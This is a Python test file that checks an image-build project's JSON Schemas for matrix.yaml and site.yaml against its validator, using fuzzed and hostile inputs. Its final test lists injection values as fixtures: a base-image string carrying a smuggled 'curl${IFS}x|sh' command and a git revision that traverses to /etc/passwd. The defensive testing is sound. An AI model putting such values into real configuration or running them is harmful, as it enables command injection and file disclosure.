"""The JSON Schemas of matrix.yaml and site.yaml (generate/schemas.py) read the committed files, and agree
with the validator: every input a schema refuses, the validator refuses too. The reverse — the validator
refusing what a schema lets through — is allowed only for the rules listed below, which look across fields or
at the text as written, where a JSON Schema cannot.

The schemas are checked with the standard validator `jsonschema` (Draft 2020-12), as editors read them.
"""
from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any, Callable

import jsonschema
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from hostile_inputs import FIXTURE_MATRIX, MATRICES_AS_WRITTEN, MATRIX_CASES, SITE_CASES
from xla_images import resources
from xla_images.errors import ErrorList, XlaImagesError
from xla_images.generate import schemas
from xla_images.model import matrix, site

ROOT = Path(__file__).resolve().parents[2]
MATRIX_SCHEMA = json.loads((ROOT / schemas.MATRIX_SCHEMA).read_text(encoding="utf-8"))
SITE_SCHEMA = json.loads((ROOT / schemas.SITE_SCHEMA).read_text(encoding="utf-8"))
# What only the validator sees: rules across fields or releases, and versions as written (a leading zero, the
# number `3.010` read back from the text). The YAML rules (yaml-*) refuse a text before any schema applies.
MATRIX_ONLY_RULES = {"abi-default", "latest-python", "exclude-matches", "unique-tag", "matrix-size", "torch-pin",
                     "python-supported", "libtpu-pin", "nightly-unique", "version-format", "schema-duplicate",
                     "companion-version", "companion-abi"}
# Cases a JSON Schema cannot tell apart, by case id: JSON has one number type, so `schema: 1.0` is the integer 1.
SCHEMA_BLIND_CASES = {"schema-float"}
SITE_ONLY_RULES = {"site-registry", "site-pull-mirror", "site-build-cache", "site-wheel-sources",  # grammars, names
                   "site-number"}  # how YAML spells a number (0x3, 0b11, 3:00): JSON, and so the schema, sees only 3


def _schema_errors(schema: dict[str, Any], data: Any) -> list[str]:
    return [error.message for error in jsonschema.Draft202012Validator(schema).iter_errors(data)]


def _matrix_rules(text: str, tmp_path: Path) -> list[str]:
    """The rules the validator names for a matrix text ([] when it accepts it)."""
    path = tmp_path / "matrix.yaml"
    path.write_text(text, encoding="utf-8", newline="")
    try:
        matrix.load_flavours(path)
    except ErrorList as errors:
        return [str(error.rule) for error in errors.errors]
    except XlaImagesError as error:
        return [str(error.rule)]
    return []


def _site_rules(text: str, tmp_path: Path) -> list[str]:
    path = tmp_path / "site.yaml"
    path.write_text(text, encoding="utf-8")
    try:
        site.load_site(path, root=tmp_path)
    except ErrorList as errors:
        return [str(error.rule) for error in errors.errors]
    except XlaImagesError as error:
        return [str(error.rule)]
    return []


def _yaml(text: str) -> Any:
    return yaml.safe_load(text.lstrip("\ufeff"))


def test_the_schemas_are_valid_json_schemas() -> None:
    for schema in (MATRIX_SCHEMA, SITE_SCHEMA):
        jsonschema.Draft202012Validator.check_schema(schema)


def test_the_committed_matrix_names_its_schema_and_passes_it() -> None:
    text = (ROOT / "matrix.yaml").read_text(encoding="utf-8")
    assert text.splitlines()[0] == f"# yaml-language-server: $schema={schemas.MATRIX_SCHEMA}"
    assert _schema_errors(MATRIX_SCHEMA, _yaml(text)) == []


@pytest.mark.parametrize("name", sorted(MATRICES_AS_WRITTEN))
def test_matrices_the_validator_accepts_pass_the_schema(name: str, tmp_path: Path) -> None:
    text = MATRICES_AS_WRITTEN[name]
    assert _matrix_rules(text, tmp_path) == []
    assert _schema_errors(MATRIX_SCHEMA, _yaml(text)) == []


def test_the_built_in_site_defaults_and_the_documented_example_pass_the_site_schema(tmp_path: Path) -> None:
    assert _schema_errors(SITE_SCHEMA, _yaml(resources.site_defaults().read_text(encoding="utf-8"))) == []
    page = (ROOT / "docs" / "site.md").read_text(encoding="utf-8")
    example = re.search(r"^```yaml\n(# yaml-language-server: .*?)^```", page, re.M | re.S)
    assert example, "docs/site.md: no site.yaml example naming its schema"
    assert example.group(1).splitlines()[0] == f"# yaml-language-server: $schema={schemas.SITE_SCHEMA}"
    assert _schema_errors(SITE_SCHEMA, _yaml(example.group(1))) == []
    assert _site_rules(example.group(1), tmp_path) == []


SCHEMA_MATRIX_CASES = [case for case in MATRIX_CASES if not case[2].startswith("yaml-")]


@pytest.mark.parametrize("case, text, rule", [case[:3] for case in SCHEMA_MATRIX_CASES],
                         ids=[case[0] for case in SCHEMA_MATRIX_CASES])
def test_a_hostile_matrix_is_refused_by_the_schema_unless_only_the_validator_can_see_it(
        case: str, text: str, rule: str, tmp_path: Path) -> None:
    rules = _matrix_rules(text, tmp_path)
    assert rule in rules  # the corpus's own promise, here as the baseline
    if not _schema_errors(MATRIX_SCHEMA, _yaml(text)) and case not in SCHEMA_BLIND_CASES:
        assert set(rules) <= MATRIX_ONLY_RULES, f"the schema lets through what the validator refuses: {rules}"


# YAML-level refusals (aliases, and numbers YAML reads but JSON cannot hold: 0x + 4000 digits is an int jsonschema
# cannot even print) are the loader's, before any schema: the validator alone judges them.
SCHEMA_SITE_CASES = [case for case in SITE_CASES if not case[2].startswith("yaml-") and case[0] != "huge-hex-level"]


@pytest.mark.parametrize("text, rule", [case[1:3] for case in SCHEMA_SITE_CASES],
                         ids=[case[0] for case in SCHEMA_SITE_CASES])
def test_a_hostile_site_is_refused_by_the_schema_unless_only_the_validator_can_see_it(
        text: str, rule: str, tmp_path: Path) -> None:
    rules = _site_rules(text, tmp_path)
    assert rule in rules
    if not _schema_errors(SITE_SCHEMA, _yaml(text)):
        assert set(rules) <= SITE_ONLY_RULES, f"the site schema lets through what the validator refuses: {rules}"


# --- every key of the frozen matrix, given every kind of value ----------------------------------------------

REPLACEMENTS = [None, True, 0, 3.11, "", "x y", "3.11", "2.9.0", "cxx11", "tpu", [], ["3.11"], ["cpu", "cpu"], {},
                {"python": "3.9"}]


def _paths(node: Any, prefix: tuple = ()) -> list[tuple]:
    found = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, prefix + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _paths(value, prefix + (index,))
    return found


def _replaced(data: Any, path: tuple, value: Any) -> Any:
    copy = json.loads(json.dumps(data))
    target = copy
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return copy


# libyaml's emitter when PyYAML has it: the same text as safe_dump's (the mutations only need a text of the data),
# four times faster over the ~1,200 mutations.
DUMPER = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
FROZEN = _yaml(FIXTURE_MATRIX.read_text(encoding="utf-8"))
MUTATIONS = [(path, value) for path in _paths(FROZEN) for value in REPLACEMENTS]


def _disagreements(base: Any, mutations: list, rules_of: Callable[[str, Path], list[str]], schema: dict,
                   validator_only: set[str], tmp_path: Path) -> list[str]:
    """Each mutation of `base` where the schema and the validator (`rules_of`) disagree: a schema refusal the
    validator accepts, or a validator refusal the schema accepts that is not one of `validator_only`."""
    disagreements = []
    for path, value in mutations:
        data = _replaced(base, path, value)
        rules = rules_of(yaml.dump(data, Dumper=DUMPER, sort_keys=False), tmp_path)
        refused_by_schema = bool(_schema_errors(schema, data))
        if refused_by_schema and not rules:
            disagreements.append(f"{path} = {value!r}: the schema refuses, the validator accepts")
        elif rules and not refused_by_schema and not set(rules) <= validator_only:
            disagreements.append(f"{path} = {value!r}: the validator refuses ({rules}), the schema accepts")
    return disagreements


def test_whatever_the_schema_refuses_in_any_key_the_validator_refuses(tmp_path: Path) -> None:
    """Each key of the frozen matrix replaced by each kind of value: a schema refusal is never a validator
    acceptance (the schema would mark a working matrix red); a validator refusal the schema passes is one of
    the listed rules."""
    disagreements = _disagreements(FROZEN, MUTATIONS, _matrix_rules, MATRIX_SCHEMA, MATRIX_ONLY_RULES, tmp_path)
    assert len(MUTATIONS) > 500
    assert not disagreements, "\n".join(disagreements[:20])


SITE_BASE = {**_yaml(resources.site_defaults().read_text(encoding="utf-8")), "bases": {"3.11": "python:3.11"},
             "pull_mirror": "mirror.lan:5000", "cosign_public_key": "cosign.pub", "build_cache": "reg.lan:5000/cache"}
SITE_MUTATIONS = [(path, value) for path in _paths(SITE_BASE) for value in REPLACEMENTS]


def test_whatever_the_site_schema_refuses_in_any_setting_the_validator_refuses(tmp_path: Path) -> None:
    disagreements = _disagreements(SITE_BASE, SITE_MUTATIONS, _site_rules, SITE_SCHEMA, SITE_ONLY_RULES, tmp_path)
    assert len(SITE_MUTATIONS) > 200
    assert not disagreements, "\n".join(disagreements[:30])


# --- field by field, the same strings to both (issue 41) --------------------------------------------------------
# Every field with a pattern takes it from the validator's compiled pattern, so on that field the two must agree
# exactly, both ways: the schema refused `>=3.10,` and a base ending in U+FEFF that the validator took, and took
# `v2.9.1/../../etc/passwd`. Values are dumped to YAML (quoted, escaped) so both read the same string.

SMALL_MATRIX = {"schema": 1,
                "defaults": {"pythons": ["3.11"], "accelerators": ["cpu"], "abis": ["cxx11"], "default_abi": "cxx11",
                             "latest_python": "3.11"},
                "releases": {"2.9.0": {"torch": "2.9.0", "pytorch_git_rev": "v2.9.1", "xla_git_rev": "v2.9.0",
                                       "python_support": ">=3.10,<3.14"}}}


def _in_matrix(*path: str | int) -> Callable[[str], dict]:
    def build(value: str) -> dict:
        return _replaced(SMALL_MATRIX, path, value)
    return build


def _release_named(value: str) -> dict:
    return {**SMALL_MATRIX, "releases": {value: SMALL_MATRIX["releases"]["2.9.0"]}}


def _source(key: str, listed: bool = False) -> Callable[[str], dict]:
    return lambda value: {"wheel_sources": [{"name": "a", key: [value] if listed else value}]}


RELEASE = ("releases", "2.9.0")
# field -> (the document holding the value, the schema path its errors lie under, valid examples)
FIELDS: dict[str, tuple[str, Callable[[str], dict], tuple, list[str]]] = {
    "release": ("matrix", _release_named, ("releases",), ["2.9.0", "0.0.1", "10.20.30"]),
    "torch": ("matrix", _in_matrix(*RELEASE, "torch"), RELEASE, ["2.9.0", "2.9.0.1", "2.10.0rc1"]),
    "libtpu": ("matrix", _in_matrix(*RELEASE, "libtpu"), RELEASE, ["0.0.21", "0.0.7.1"]),
    "pytorch_git_rev": ("matrix", _in_matrix(*RELEASE, "pytorch_git_rev"), RELEASE,
                        ["v2.9.1", "release/2.9", "a" * 40, "v2.9.0-rc1+x_y"]),
    "xla_git_rev": ("matrix", _in_matrix(*RELEASE, "xla_git_rev"), RELEASE, ["v2.9.0", "main"]),
    "python_support": ("matrix", _in_matrix(*RELEASE, "python_support"), RELEASE,
                       [">=3.10,<3.14", "==3.11.*", "~=3.10", ">= 3.9 , < 3.12"]),
    "pythons": ("matrix", _in_matrix("defaults", "pythons", 0), ("defaults",), ["3.11", "3.0", "3.100"]),
    "latest_python": ("matrix", _in_matrix("defaults", "latest_python"), ("defaults",), ["3.11", "none"]),
    "bases": ("site", lambda value: {"bases": {"3.11": value}}, ("bases",),
              ["python:3.11", "localhost:5000/a/b:t", "ghcr.io/o/i@sha256:" + "a" * 64, "a__b/c.d-e:T_1.2"]),
    "bases key": ("site", lambda value: {"bases": {value: "python:3.11"}}, ("bases",), ["3.11", "3.9"]),
    "source name": ("site", lambda value: {"wheel_sources": [{"name": value}]}, ("wheel_sources",),
                    ["corp-mirror", "a.b_c"]),
    "torch_local": ("site", _source("torch_local"), ("wheel_sources",), ["+cxx11", ""]),
    "index_url": ("site", _source("index_url"), ("wheel_sources",), ["https://pypi.example/simple", "file:///w"]),
    "extra_index_urls": ("site", _source("extra_index_urls", listed=True), ("wheel_sources",),
                         ["http://127.0.0.1:8080/simple/"]),
    "find_links": ("site", _source("find_links", listed=True), ("wheel_sources",),
                   ["https://host/wheels/", "/srv/wheel house"]),
}
# The rules a field's own grammar answers with (others look across fields: torch-pin, latest-python ...).
FIELD_RULES = {"schema-type", "version-format", "git-rev", "site-bases", "site-wheel-sources"}
# Characters where Python's and a JSON Schema's (ECMAScript) regexes, or packaging and a pattern, tend to differ.
HOSTILE = ["\x1c", "\ufeff", "\x85", "\xa0", "\u2028", " ", "\t", "\n", "\x00", "\x7f", "\u0663", "V", "v", ",",
           ".", "..", "/", "//", ".lock", "@{", ":", "*", "0", "-", "_", ";", "${IFS}", "|", "A", "+", "~", "\\",
           "://", "@sha256:", "3.10"]


@st.composite
def _value(draw: st.DrawFn, valid: list[str]) -> str:
    """A valid example, mutated: characters inserted, replaced or cut, or two examples joined."""
    text = draw(st.sampled_from(valid))
    for _ in range(draw(st.integers(0, 3))):
        where = draw(st.integers(0, len(text)))
        action = draw(st.sampled_from(["insert", "replace", "cut", "join"]))
        piece = draw(st.sampled_from(HOSTILE) | st.text(max_size=3))
        if action == "insert":
            text = text[:where] + piece + text[where:]
        elif action == "replace":
            text = text[:where] + piece + text[where + 1:]
        elif action == "cut":
            text = text[:where]
        else:
            text = text + piece + draw(st.sampled_from(valid))
    return text


def _field_verdicts(field: str, value: str, folder: Path) -> tuple[bool, bool]:
    """(the validator refuses the field, the schema refuses it) for `value` placed in its field."""
    kind, build, prefix, _ = FIELDS[field]
    data = build(value)
    text = yaml.dump(data, Dumper=DUMPER, sort_keys=False)
    rules = (_matrix_rules if kind == "matrix" else _site_rules)(text, folder)
    schema = MATRIX_SCHEMA if kind == "matrix" else SITE_SCHEMA
    errors = jsonschema.Draft202012Validator(schema).iter_errors(data)
    refused_by_schema = any(tuple(error.absolute_path)[:len(prefix)] == prefix for error in errors)
    return bool(set(rules) & FIELD_RULES), refused_by_schema


@pytest.mark.parametrize("field", sorted(FIELDS))
def test_the_schema_and_the_validator_agree_on_every_value_of_a_field_with_a_pattern(
        field: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("field")

    @settings(max_examples=150, derandomize=True, deadline=None, database=None)
    @given(value=_value(FIELDS[field][3]))
    def agree(value: str) -> None:
        validator, schema = _field_verdicts(field, value, folder)
        assert validator == schema, f"{field} = {value!r}: validator refuses {validator}, schema refuses {schema}"

    agree()
    for value in FIELDS[field][3]:  # the examples themselves are accepted: the property is not vacuous
        assert _field_verdicts(field, value, folder) == (False, False), value


@pytest.mark.parametrize("field, value", [
    ("python_support", ">=3.10,<3.14,"), ("python_support", ">=V3.10"), ("python_support", ">=3.10\x1c"),
    ("bases", "python:3.11\ufeff"), ("bases", "python:3.11;curl${IFS}x|sh"),
    ("pytorch_git_rev", "v2.9.1/../../../../etc/passwd"), ("torch_local", "+cxx11\n")])
def test_values_the_validator_once_took_and_the_schema_refused_are_refused_by_both(
        field: str, value: str, tmp_path: Path) -> None:
    assert _field_verdicts(field, value, tmp_path) == (True, True)
